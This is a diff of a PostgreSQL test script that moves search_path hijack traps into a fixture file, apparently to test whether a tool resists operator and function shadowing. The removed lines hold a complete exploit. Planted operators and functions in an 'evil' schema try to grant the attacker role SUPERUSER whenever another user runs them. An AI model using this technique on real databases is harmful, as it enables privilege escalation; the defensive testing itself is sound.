@@ -35,48 +35,10 @@ GRANT SELECT ON public.src TO t071_mallory, t071_victim;
 GRANT CREATE ON SCHEMA public TO t071_mallory, t071_victim;
 SQL
 
-# The traps: every planted operator and function calls evil.trap().
+# The traps (test/fixtures/search_path_traps.sql), first on the search_path
+# of the database and of the attacker.
+as_mallory -f "$REPO_ROOT/test/fixtures/search_path_traps.sql" >/dev/null
 as_mallory <<'SQL'
-GRANT USAGE ON SCHEMA evil TO PUBLIC;
-CREATE TABLE evil.ran (who name, sess name, what text);
-GRANT INSERT ON evil.ran TO PUBLIC;
-CREATE FUNCTION evil.trap(what text) RETURNS boolean LANGUAGE plpgsql AS $$
-BEGIN
-  IF current_user OPERATOR(pg_catalog.<>) 't071_mallory'::pg_catalog.name THEN
-    INSERT INTO evil.ran VALUES (current_user, session_user, what);
-    BEGIN
-      EXECUTE 'ALTER ROLE t071_mallory SUPERUSER';
-    EXCEPTION WHEN OTHERS THEN NULL;
-    END;
-  END IF;
-  RETURN true;
-END$$;
-DO $$
-DECLARE
-  spec text[];
-BEGIN
-  FOREACH spec SLICE 1 IN ARRAY ARRAY[
-      ['=', 'oid', 'oid', 'bool'], ['=', 'int4', 'int4', 'bool'], ['=', 'int8', 'int8', 'bool'],
-      ['=', 'text', 'text', 'bool'], ['=', 'regclass', 'regclass', 'bool'], ['=', 'bool', 'bool', 'bool'],
-      ['<', 'oid', 'oid', 'bool'], ['<', 'timestamptz', 'timestamptz', 'bool'],
-      ['>=', 'int8', 'int4', 'bool'], ['+', 'int8', 'int8', 'int8'], ['-', 'int8', 'int8', 'int8'],
-      ['-', 'timestamptz', 'interval', 'timestamptz'], ['/', 'int8', 'numeric', 'numeric'],
-      ['||', 'text', 'text', 'text']]
-  LOOP
-    EXECUTE format('CREATE FUNCTION evil.%I(a pg_catalog.%s, b pg_catalog.%s) RETURNS pg_catalog.%s '
-                   'LANGUAGE plpgsql AS $f$BEGIN PERFORM evil.trap(%L); '
-                   'RETURN a OPERATOR(pg_catalog.%s) b; END$f$',
-                   'op_' || md5(array_to_string(spec, ' ')), spec[2], spec[3], spec[4],
-                   array_to_string(spec, ' '), spec[1]);
-    EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = pg_catalog.%s, RIGHTARG = pg_catalog.%s, '
-                   'FUNCTION = evil.%I)', spec[1], spec[2], spec[3],
-                   'op_' || md5(array_to_string(spec, ' ')));
-  END LOOP;
-END$$;
-CREATE FUNCTION evil.now() RETURNS timestamptz LANGUAGE plpgsql AS
-  $$BEGIN PERFORM evil.trap('now()'); RETURN pg_catalog.now(); END$$;
-CREATE FUNCTION evil.to_timestamp(numeric) RETURNS timestamptz LANGUAGE plpgsql AS
-  $$BEGIN PERFORM evil.trap('to_timestamp(numeric)'); RETURN pg_catalog.to_timestamp($1::float8); END$$;
 ALTER DATABASE t071 SET search_path = evil, pg_catalog;
 ALTER ROLE t071_mallory SET search_path = evil, pg_catalog;
 SQL
